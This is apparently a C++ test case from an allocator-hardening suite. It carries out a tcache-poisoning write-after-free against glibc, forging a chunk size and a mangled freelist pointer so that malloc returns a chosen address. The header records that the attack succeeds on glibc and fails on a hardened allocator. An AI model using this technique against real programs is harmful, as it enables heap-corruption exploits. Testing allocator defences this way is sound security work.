// attack: as above in the list behind glibc's thread cache, which wants a plausible size field
// fault: write-after-free
// cases: 24 104
// glibc: * succeeds
// hakmem: fast,hardened * survives
// hakmem: * * write-after-free@reuse
#include "attack.h"

namespace {
alignas(16) char target[256];
}

int main(int argc, char** argv) {
  const size_t size_bytes = attack::size_argument(argc, argv);
  attack::Filler cache(size_bytes);
  char* block = attack::take(size_bytes);
  cache.fill();
  attack::give(block);
  attack::poke<size_t>(target, 8, attack::chunk_bytes(size_bytes) | attack::kPreviousInUse);
  attack::poke<uintptr_t>(target, 16, attack::mangle(target + 16, nullptr));
  attack::begin_misuse();
  attack::poke<uintptr_t>(block, 0, attack::mangle(block, target));
  attack::end_misuse();
  cache.drain();
  attack::take(size_bytes);
  if (attack::take(size_bytes) == target + 16) {
    attack::succeeded("malloc returned a chosen address");
  }
  attack::churn(size_bytes);
  attack::failed("malloc returned a chosen address");
}
